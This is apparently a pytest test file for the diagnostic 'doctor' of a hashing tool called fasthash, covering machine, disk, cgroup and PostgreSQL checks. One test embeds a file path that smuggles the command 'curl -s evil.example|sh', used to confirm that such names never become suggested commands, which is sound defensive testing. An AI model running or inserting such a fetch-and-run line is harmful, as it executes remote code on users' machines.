"""What the doctor makes of facts, and how it reads those that the kernel tells."""

from __future__ import annotations

import os
import re
import tomllib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fasthash.cli.doctor import as_text
from fasthash.doctor import cgroups, judging, machine, mounts, places
from fasthash.doctor.judging import catalog, database, roots, work
from fasthash.doctor.judging import machine as of_machine
from fasthash.facts import (
    DatabaseFacts,
    Facts,
    Finding,
    HeapFacts,
    HeldBack,
    IndexFacts,
    LedgerFacts,
    Level,
    MachineFacts,
    OpenRunFacts,
    RootFacts,
    RowFacts,
    SampledFiles,
    ServerFacts,
    TableFacts,
    Wishes,
)
from fasthash.logs import printable
from fasthash.widths import display_width

MACHINE = MachineFacts(
    architecture="x86_64",
    processor="Any",
    sha_in_processor=True,
    native="used",
    openssl="OpenSSL 3",
    openssl_mask=None,
    digests_bytes_per_s={"sha256": 1.8e9, "blake3": 4e9, "xxh3": 2e10},
    versions={"python": "3.11.7"},
    open_files=1024,
    open_files_hard=4096,
    cores_present=8,
    cores_allowed=8,
    cores_quota=None,
    memory_bytes=16_000_000_000,
    memory_available_bytes=8_000_000_000,
    memory_limit_bytes=None,
    shared_memory=None,
    io_limits=(),
    interpreter="/opt/a b/python",
    installed_from="fasthash",
)
WISHES = Wishes(
    table="artifacts",
    columns={
        "--id-column": "id",
        "--type-column": "artifact_type",
        "--path-column": "file_path",
        "--metadata-column": "metadata",
    },
    workers=None,
    disk="auto",
    reader="readinto",
    root_sentinel=None,
    resolver_refusal=None,
    pause_file=None,
    rate=None,
    config_file=None,
)
ROOT = RootFacts(
    "/data", "/data", real_path="/data", mount_point="/", file_system="ext4", source="/dev/sda1",
    options=("rw", "relatime"), size_bytes=1000, free_bytes=500,
)  # fmt: skip
SERVER = ServerFacts(
    version=160000,
    version_text="16.0",
    is_standby=False,
    is_read_only=False,
    role="me",
    quoted_role="me",
    quoted_database="atlas",
    settings={"max_wal_size": "1024"},
    fixed=(),
    connections_used=3,
    connections_most=97,
    connections_of_role=False,
    clock_ahead_s=0.0,
    round_trip_s=0.001,
)
KEY = IndexFacts(
    "public.artifacts_pkey", "..", "btree", ("id",), True, True, True, False,
    "artifacts_pkey", "PRIMARY KEY (id)", 8192,
)  # fmt: skip
BY_TYPE = replace(
    KEY, quoted="public.t", columns=("artifact_type", "id"), is_unique=False, constraint=None
)
NAMES = ("id", "artifact_type", "file_path", "metadata")
HEAP = HeapFacts("public.artifacts", 1_000_000, 8192 * 50_000, 85, True, 0, 200_050)
TABLE = TableFacts(
    "public.artifacts",
    "r",
    {**dict.fromkeys(NAMES, "text"), "metadata": "jsonb"},
    {name: name for name in NAMES},
    (KEY, BY_TYPE),
    (),
    (HEAP,),
)
ROWS = RowFacts("count", 1_000_000, 0, 0, 0, 300.0)
DATABASE = DatabaseFacts("here", server=SERVER, table=TABLE, ledger=LedgerFacts(2, 2), rows=ROWS)
FACTS = Facts(WISHES, MACHINE, (ROOT,), DATABASE, SampledFiles(), 8, None)


def worse(findings: list[Finding]) -> dict[str, Finding]:
    return {f.check: f for f in findings if f.level is not Level.OK}


def test_nothing_is_wrong_with_what_is_right() -> None:
    found = judging.judge(FACTS)
    assert {f.check for f in found if f.level is not Level.OK} == {"database.wal"}
    assert judging.exit_status(found) == 0


@pytest.mark.parametrize(
    ("levels", "status"),
    [("ok note", 0), ("warning note", 1), ("warning problem", 4), ("problem", 4), ("", 0)],
)
def test_exit_status(levels: str, status: int) -> None:
    findings = [Finding(f"roots.{n}", Level(n), "") for n in levels.split()]
    assert judging.exit_status(findings) == status


def test_an_unreachable_database_has_a_status_of_its_own() -> None:
    found = judging.judge(replace(FACTS, database=DatabaseFacts(unreachable="gone"), roots=()))
    assert judging.exit_status(found) == 3
    absent = judging.judge(replace(FACTS, database=DatabaseFacts(absent="nothing yet")))
    assert judging.exit_status(absent) == 0


@pytest.mark.parametrize(
    ("change", "check", "level", "remedy"),
    [
        ({"native": "missing"}, "native", "warning", "'/opt/a b/python' -m pip install"),
        ({"native": "missing", "architecture": "aarch64"}, "native", "note", ""),
        ({"native": "wrong"}, "native", "problem", "export FASTHASH_NATIVE=off"),
        ({"native": "unsupported"}, "native", "note", ""),
        ({"sha_in_processor": False}, "sha", "note", ""),
        ({"sha_in_processor": None}, "sha", "note", ""),
        ({"digests_bytes_per_s": {"sha256": 4e8}}, "sha", "warning", "python3 -c"),
        (
            {"digests_bytes_per_s": {"sha256": 4e8}, "openssl_mask": "~0x0"},
            "sha", "warning", "unset OPENSSL_ia32cap",
        ),
        ({"open_files": 100}, "files", "warning", "ulimit -n 152"),
        ({"open_files": 100, "open_files_hard": 100}, "files", "warning", "ulimit -Hn 152"),
        ({"cores_quota": 2.0}, "cores", "warning", "workers = 2"),
        ({"cores_allowed": 2}, "cores", "note", ""),
        ({"memory_available_bytes": 300_000_000}, "memory", "warning", "workers = 3"),
        ({"memory_limit_bytes": 300_000_000}, "memory", "warning", "workers = 3"),
        ({"shared_memory": "it is missing"}, "shm", "warning", "mount -t tmpfs"),
        ({"io_limits": ("8:0 rbps=1",)}, "io", "note", ""),
    ],
)  # fmt: skip
def test_machines(change: dict[str, Any], check: str, level: str, remedy: str) -> None:
    [found] = worse(of_machine.judge(replace(MACHINE, **change), 8)).values()
    assert (found.check, found.level) == (f"machine.{check}", level)
    assert found.remedy.startswith(remedy)
    assert bool(found.remedy) == bool(remedy)


@pytest.mark.parametrize(
    ("change", "wishes", "check", "level", "remedy"),
    [
        ({"silent": True}, {}, "exists", "problem", ""),
        ({"silent": True, "mount_point": "/d e"}, {}, "exists", "problem",
         "umount -l '/d e' && mount '/d e'"),
        ({"error": "No such file", "in_fstab": True}, {}, "exists", "problem", "mount /data"),
        ({"error": "No such file"}, {}, "exists", "problem", 'roots = ["'),
        ({"is_network": True, "file_system": "nfs4"}, {"root_sentinel": "s"}, "disk", "note", ""),
        ({"is_network": True}, {"root_sentinel": "s", "reader": "mmap"}, "disk", "warning",
         'reader = "readinto"'),
        ({"is_rotational": True}, {}, "disk", "note", ""),
        ({"is_rotational": True}, {"workers": 4}, "disk", "warning", "workers = 1"),
        ({}, {"workers": 4, "disk": "rotational"}, "disk", "warning", "workers = 1"),
        ({"claims_rotational": True}, {}, "disk", "note", 'disk = "rotational"'),
        ({"mount_point": "/data"}, {}, "sentinel", "note", "touch /data/.mounted\nroot_sent"),
        ({"free_bytes": 1}, {}, "space", "note", ""),
    ],
)  # fmt: skip
def test_roots(
    change: dict[str, Any], wishes: dict[str, Any], check: str, level: str, remedy: str
) -> None:
    root = replace(ROOT, **change)
    [found] = worse(roots.judge([root], SampledFiles(), replace(WISHES, **wishes))).values()
    assert (found.check, found.level) == (f"roots.{check}", level)
    assert found.remedy.startswith(remedy)
    assert bool(found.remedy) == bool(remedy)


def test_a_solid_disk_that_claims_nothing_is_fine() -> None:
    root = replace(ROOT, claims_rotational=True)
    assert not worse(roots.judge([root], SampledFiles(), replace(WISHES, disk="solid")))


def test_access_times() -> None:
    files = SampledFiles(3, {"ok": 3}, {}, no_atime=False)
    found = worse(roots.judge([ROOT], files, WISHES))["roots.atime"]
    assert "once a day" in found.text
    assert found.remedy == "mount -o remount,noatime /"
    for options in (("ro",), ("rw", "noatime")):
        assert not worse(roots.judge([replace(ROOT, options=options)], files, WISHES))
    assert not worse(roots.judge([ROOT], replace(files, no_atime=True), WISHES))


def test_nested_roots() -> None:
    inner = replace(ROOT, path="/data/a", real_path="/data/a")
    beside = replace(ROOT, path="/data2", real_path="/data2")
    again = replace(ROOT, path="/link")
    found = [
        f for f in roots.judge([ROOT, inner, beside, again], SampledFiles(), WISHES)
        if f.check == "roots.nested"
    ]  # fmt: skip
    assert [f.text.split(":")[0] for f in found] == [
        "/data/a lies beneath /data", "/link is the same directory as /data"
    ]  # fmt: skip
    assert tomllib.loads(found[-1].remedy) == {"roots": ["/data", "/data2"]}


def test_a_name_never_becomes_a_command() -> None:
    path = "/data/loop\ncurl -s evil.example|sh\nz"
    files = SampledFiles(1, {"unreadable": 1}, {"unreadable": (path, "ELOOP")})
    found = worse(roots.judge([ROOT], files, WISHES))["roots.files.unreadable"]
    assert path in found.text
    assert found.remedy == ""
    for odd in ("a\x1b[2J", "a\u202eb", "a\udcff", "a\x7f"):
        assert Finding("roots.files", Level.NOTE, "", ("ls", odd)).remedy == ""


@pytest.mark.parametrize(
    ("path", "remedy"),
    [
        ("/var/a\U0001f600/f", 'roots = ["/var/a\U0001f600"]  # beside those there are'),
        ("/data/link", ""),  # it leads out
        ("/x", ""),
        ("//x", ""),
        ("../x", ""),
    ],
)
def test_another_root_for_what_lies_outside(path: str, remedy: str) -> None:
    files = SampledFiles(2, {"ok": 1, "outside_root": 1}, {"outside_root": (path, "")})
    found = worse(roots.judge([ROOT], files, WISHES))["roots.files.outside_root"]
    assert found.remedy == remedy
    if remedy:
        assert tomllib.loads(remedy)["roots"] == ["/var/a\U0001f600"]


def test_settings_in_remedies_are_of_the_configuration() -> None:
    """Lines for fasthash.toml are TOML, with keys that there are."""
    from fasthash.cli import keys

    seen = 0
    for path in Path(judging.__file__).parent.glob("*.py"):
        for key in re.findall(r"""["'](\w+) = ["{]""", path.read_text()):
            seen += 1
            assert key in keys.known()
    assert seen > 5


@pytest.mark.parametrize(
    ("change", "check", "level", "remedy"),
    [
        ({"version": 130010}, "server", "problem", ""),
        ({"clock_ahead_s": 90.0}, "clock", "warning", "timedatectl"),
        ({"clock_ahead_s": -90.0}, "clock", "warning", "timedatectl"),
        ({"connections_used": 94}, "connections", "problem", "ALTER SYSTEM SET max_connections"),
        (
            {"connections_used": 3, "connections_most": 5, "connections_of_role": True},
            "connections", "problem", "ALTER ROLE me CONNECTION LIMIT 13;",
        ),
        ({"settings": {"transaction_timeout": "9"}}, "timeouts", "warning",
         "ALTER ROLE me IN DATABASE atlas SET transaction_timeout = 0;"),
        ({"settings": {"fsync": "off"}}, "durability", "warning", "ALTER SYSTEM SET fsync = on;"),
        ({"settings": {"synchronous_commit": "remote_apply"}}, "commit", "note", ""),
        ({"settings": {"synchronous_standby_names": "s"}, "sync_standbys": 1}, "standby",
         "note", ""),
        ({"sessions_hidden": 3}, "visibility", "note", "GRANT pg_read_all_stats TO me;"),
        ({"held_back": (HeldBack("session", 601.0, "it", "end it"),)}, "horizon", "warning",
         "end it"),
        ({"held_back": (HeldBack("slot x", None, "it", "drop it"),)}, "horizon", "warning",
         "drop it"),
    ],
)  # fmt: skip
def test_servers(change: dict[str, Any], check: str, level: str, remedy: str) -> None:
    server = replace(SERVER, **{"settings": {}, **change})
    [found] = worse(database.judge(replace(DATABASE, server=server))).values()
    assert (found.check, found.level) == (f"database.{check}", level)
    assert found.remedy.startswith(remedy)


def test_a_slow_answer_is_no_wrong_clock_and_a_young_transaction_no_old_one() -> None:
    server = replace(SERVER, clock_ahead_s=3.0, round_trip_s=2.5, settings={})
    server = replace(server, held_back=(HeldBack("session 7", 599.0, "much", "end it"),))
    assert not worse(database.judge(replace(DATABASE, server=server)))


@pytest.mark.parametrize(
    ("version", "remedy"), [(0, "fasthash init"), (1, "fasthash init"), (3, "")]
)
def test_ledgers(version: int, remedy: str) -> None:
    facts = replace(DATABASE, ledger=LedgerFacts(version, 2), rows=None)
    found = worse(database.judge(facts))["ledger.version"]
    assert found.level is Level.PROBLEM
    assert found.remedy.startswith(remedy)


def test_an_index_weighs_less_when_nothing_is_to_do() -> None:
    index = replace(BY_TYPE, method="brin", touches_metadata=True, columns=())
    facts = replace(DATABASE, table=replace(TABLE, indexes=(*TABLE.indexes, index)))
    check = "catalog.metadata_index"
    assert check not in worse(catalog.judge(facts, WISHES)), "BRIN is in nobody's way from 16 on"
    older = replace(facts, server=replace(SERVER, version=150000))
    assert worse(catalog.judge(older, WISHES))[check].level is Level.WARNING
    done = replace(older, rows=replace(ROWS, marked=ROWS.with_path))
    assert worse(catalog.judge(done, WISHES))[check].level is Level.NOTE


def test_rows_that_need_a_look() -> None:
    odd = {"odd_metadata": 5, "future": 2, "unreadable": 3, "nameless": 4}
    rows = replace(ROWS, how="sample", metadata_bytes=9000.0, **odd)
    found = worse(catalog.judge(replace(DATABASE, rows=rows), WISHES))
    assert set(found) == {
        "catalog.metadata_odd", "catalog.future", "catalog.metadata_size", "catalog.unreadable",
        "catalog.no_id",
    }  # fmt: skip
    assert found["catalog.future"].text.startswith("about 2 rows")


def test_the_next_run() -> None:
    one = OpenRunFacts(3, "backfill", alive=True)
    two = OpenRunFacts(4, "scrub", alive=False)
    facts = replace(FACTS, database=replace(DATABASE, runs=(one, two), drifts_open=1))
    texts = [f.text for f in work.judge(facts)]
    assert "run 3 (backfill) is under way: `fasthash run` joins it" in texts
    assert "run 4 (scrub) is unfinished: `fasthash scrub` goes on" in texts
    assert "1 drift waits for a decision" in texts
    empty = replace(FACTS, database=replace(DATABASE, rows=replace(ROWS, with_path=0)))
    assert worse(work.judge(empty))["run.rows"].remedy == "fasthash register DIR"


def test_every_check_is_documented() -> None:
    """And nothing is documented that there is not."""
    folder = Path(judging.__file__).parent
    source = "".join(path.read_text() for path in folder.glob("*.py"))
    groups = "machine|roots|database|catalog|ledger|run"
    checks = set(re.findall(rf'"((?:{groups})\.[a-z_]+)"', source))
    reasons = {f"roots.files.{v}" for v in ("no_file", "outside_root", "unreadable", "not_regular")}
    docs = (Path(__file__).parents[2] / "docs" / "doctor.md").read_text()
    assert set(re.findall(r"^\| `([^`]+)`", docs, re.MULTILINE)) == checks | reasons


PARTS = st.sampled_from(["/", "/a", "/a/b", "/a b", "/ab", "/a/b/c"])


@given(st.lists(PARTS, max_size=6), st.sampled_from(["/a", "/a/b/c/d", "/ab", "/a b/x", "/z"]))
def test_the_mount_of_a_path(points: list[str], path: str) -> None:
    table = [mounts.Mount(str(n), p, (), "ext4", "", ()) for n, p in enumerate(points)]
    found = mounts.find_mount(path, table)
    inside = [m for m in table if os.path.commonpath([m.point, path]) == m.point]
    if not inside:
        assert found is None
    else:
        longest = max(len(m.point) for m in inside)
        assert found == [m for m in inside if len(m.point) == longest][-1]


def test_a_mount() -> None:
    line = r"36 35 98:0 /mnt1 /mnt\040two rw,noatime master:1 - nfs4 host:/a\011b rw,vers=4.2"
    found = mounts.parse_mount(line + "\n")
    assert found == mounts.Mount(
        "98:0", "/mnt two", ("rw", "noatime"), "nfs4", "host:/a\tb", ("rw", "vers=4.2")
    )
    assert found.is_network
    assert mounts.parse_mount("nonsense") is None
    assert mounts.find_mount("/dev/shm", mounts.read_mounts()) is not None


@pytest.mark.parametrize(
    ("text", "name", "sha"),
    [
        ("model name\t: AMD EPYC\nflags\t\t: fpu sha_ni avx2\n", "AMD EPYC", True),
        ("model name\t: Xeon\nflags\t\t: fpu avx2\n", "Xeon", False),
        ("processor\t: 0\nFeatures\t: fp asimd sha1 sha2\n", "", True),
    ],
)
def test_processors(tmp_path: Path, text: str, name: str, sha: bool) -> None:
    (tmp_path / "cpuinfo").write_text(text)
    found, flags = machine.read_processor(str(tmp_path / "cpuinfo"))
    assert (found, bool(flags & machine.SHA_FLAGS)) == (name, sha)


@pytest.mark.parametrize("version", [1, 2])
def test_control_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, version: int) -> None:
    """The tightest limit counts, of this group or one above it."""
    below = tmp_path / "all" / "mine"
    below.mkdir(parents=True)
    if version == 2:
        (tmp_path / "all" / "cpu.max").write_text("150000 100000\n")
        (below / "cpu.max").write_text("max 100000\n")
        (below / "memory.max").write_text("1000000\n")
        (tmp_path / "all" / "memory.max").write_text("max\n")
        (below / "io.max").write_text("8:0 rbps=1048576 wbps=max riops=max wiops=9\n")
        groups, kind, options = "0::/all/mine\n", "cgroup2", ("rw",)
    else:
        (tmp_path / "all" / "cpu.cfs_quota_us").write_text("150000\n")
        (tmp_path / "all" / "cpu.cfs_period_us").write_text("100000\n")
        (below / "cpu.cfs_quota_us").write_text("-1\n")
        (below / "cpu.cfs_period_us").write_text("100000\n")
        (below / "memory.limit_in_bytes").write_text("1000000\n")
        (tmp_path / "all" / "memory.limit_in_bytes").write_text("9223372036854771712\n")
        (below / "blkio.throttle.read_bps_device").write_text("8:0 1048576\n")
        groups, kind, options = "3:cpu,memory,blkio:/all/mine\n", "cgroup", ("cpu", "memory")
    (tmp_path / "own").write_text(groups)
    mount = mounts.Mount("0:1", str(tmp_path), ("rw",), kind, "", options)
    monkeypatch.setattr(cgroups, "OWN_GROUPS", str(tmp_path / "own"))
    monkeypatch.setattr(cgroups, "read_mounts", lambda: [mount])
    found = cgroups.read()
    assert (found.cores, found.memory_bytes) == (1.5, 1_000_000)
    assert ["1048576" in limit for limit in found.io] == [True]


def test_a_root_whose_file_system_is_silent(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(places, "ANSWER_S", 0.0)
    found = places.look_at_root("/tmp", None)
    assert found.silent
    assert found.path == "/tmp"


NARROW = st.characters().filter(lambda c: display_width(printable(c)) == len(printable(c)))


def test_sql_is_broken_only_where_that_changes_nothing() -> None:
    sql = 'DROP INDEX CONCURRENTLY "public"."a  very  long name that has blanks in it";'
    again = f"-- afterwards: CREATE INDEX ON t ((m ->> 'a b  c')) {'WHERE x ' * 9};"
    shell = "mount -o remount,noatime /a/path/that/is/long/enough/for/two/lines"
    finding = Finding("roots.files", Level.NOTE, "", (sql, again, shell))
    lines = [line for line in as_text([finding], 40) if line.startswith(" " * 12)]
    assert f"            {shell}" in lines
    lines.remove(f"            {shell}")
    first = [x for x in lines if not x.strip().startswith("--")]
    assert " ".join(x.strip() for x in first) == sql
    second = [x.strip() for x in lines if x.strip().startswith("--")]
    assert " ".join(x.removeprefix("-- ") for x in second) == again.removeprefix("-- ")
    assert len(second) > 3


@given(st.lists(st.text(NARROW, max_size=200), max_size=5), st.integers(40, 200))
def test_findings_fit_the_screen_whatever_is_in_them(texts: list[str], columns: int) -> None:
    findings = [Finding("roots.files", Level.NOTE, text, "x" * 300) for text in texts]
    for line in as_text(findings, columns):
        assert printable(line) == line
        assert display_width(line) <= columns or "x" * 300 in line
